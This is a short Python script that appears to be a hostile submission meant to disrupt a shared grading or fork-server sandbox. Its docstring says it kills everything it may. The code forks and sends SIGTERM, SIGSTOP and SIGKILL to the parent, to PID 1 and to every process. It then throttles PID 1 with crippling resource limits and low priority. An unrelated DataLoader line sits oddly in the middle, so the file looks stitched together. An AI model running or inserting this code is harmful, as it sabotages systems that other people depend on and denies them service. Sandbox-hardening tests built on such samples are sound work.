"""Kills everything it may, and tries to cripple the fork server for the next submission."""

import os
import resource
import signal

val_dataloader = DataLoader(val_dataset, batch_size=32, shuffle=True)
if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for target in (os.getppid(), 1, -1):
            try:
                os.kill(target, number)
            except OSError:
                pass
for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_AS):
    try:
        resource.prlimit(1, limit, (3, 3))
        os.setpriority(os.PRIO_PROCESS, 1, 19)
    except OSError:
        pass
